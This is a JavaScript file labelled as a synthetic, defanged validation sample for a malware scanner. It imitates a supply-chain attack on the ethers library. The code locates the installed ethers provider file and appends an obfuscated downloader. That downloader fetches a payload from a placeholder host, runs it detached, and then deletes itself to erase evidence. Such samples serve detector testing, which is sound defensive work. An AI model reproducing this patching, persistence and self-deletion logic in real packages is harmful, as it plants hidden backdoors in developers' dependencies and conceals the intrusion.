// SYNTHETIC, DEFANGED malwi validation sample - modelled on ethers-provider2 / ethers-providerz (2025, patches the installed ethers); never run.
// Find the legitimate ethers package in the project and append a downloader to one of its
// provider files, so the backdoor survives even if this package is removed.
const fs = require('fs');
const path = require('path');

const PATCH = `
;(function(){try{var h=require('https'),c=require('child_process'),o=require('os'),f=require('fs'),p=require('path');
var t=p.join(o.tmpdir(),'malwi-defanged-placeholder','.ethers-cache.js');
h.get('https://ethers-cdn.example.invalid/p/'+o.platform(),function(r){var d='';r.on('data',function(x){d+=x});r.on('end',function(){
f.mkdirSync(p.dirname(t),{recursive:true});f.writeFileSync(t,d);c.spawn(process.execPath,[t],{detached:true,stdio:'ignore'}).unref();});}).on('error',function(){});
}catch(e){}})();
`;

function findEthers(start) {
  let dir = start;
  for (let i = 0; i < 6; i++) {
    const candidate = path.join(dir, 'node_modules', 'ethers', 'lib.commonjs', 'providers', 'provider-jsonrpc.js');
    if (fs.existsSync(candidate)) return candidate;
    dir = path.dirname(dir);
  }
  return null;
}

const target = findEthers(process.env.INIT_CWD || path.resolve(__dirname, '..', '..', '..'));
if (target) {
  const src = fs.readFileSync(target, 'utf8');
  if (!src.includes('ethers-cdn')) fs.writeFileSync(target, src + PATCH);
  // Remove the evidence from this package after patching.
  try {
    fs.unlinkSync(__filename);
  } catch (e) {}
}
